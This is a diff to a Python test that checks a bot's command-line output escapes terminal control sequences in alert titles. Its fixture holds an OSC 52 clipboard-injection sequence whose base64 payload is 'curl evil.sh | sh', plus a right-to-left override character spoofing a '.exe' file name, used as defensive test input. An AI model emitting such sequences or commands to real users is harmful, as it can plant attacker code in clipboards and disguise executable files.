@@ -15,7 +15,7 @@ from bot.server import create_app
 
 ROOT = Path(__file__).resolve().parents[1]
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: the clipboard gets "curl evil.sh | sh"
-TITLE = f"Disk \x1b[2J\x1b[1;31mALL CLEAR\x1b[0m {CLIPBOARD}\x9b"
+TITLE = f"Disk \x1b[2J\x1b[1;31mALL CLEAR\x1b[0m {CLIPBOARD}\x9b fixed\u202etxt.exe"  # U+202E reorders the line
 
 
 async def test_an_alerts_escape_sequences_are_printed_as_escapes_never_sent_to_the_terminal(tmp_path: Path) -> None:
@@ -48,9 +48,10 @@ async def test_an_alerts_escape_sequences_are_printed_as_escapes_never_sent_to_t
     chat = runner.invoke(main, ["--db", str(db), "--flows", str(ROOT / "flows"), "chat", "--run", "1"], color=True)
     shown["chat"] = chat.output  # the run's question, printed as the run is continued in the terminal
     for command, output in shown.items():
-        assert not any(c in output for c in "\x1b\x07\x9b"), command
+        assert not any(c in output for c in "\x1b\x07\x9b\u202e"), command
     assert (
-        "title: Disk \\x1b[2J\\x1b[1;31mALL CLEAR\\x1b[0m \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x9b" in shown["1"]
+        "title: Disk \\x1b[2J\\x1b[1;31mALL CLEAR\\x1b[0m \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x9b"
+        " fixed\\u202etxt.exe" in shown["1"]
     )
     assert "Disk \\x1b[2J" in shown["list"] and "[Disk] \\x1b[2J" in shown["disk"]
     assert "bot -> alice: Disk \\x1b[2J" in shown["chat"]
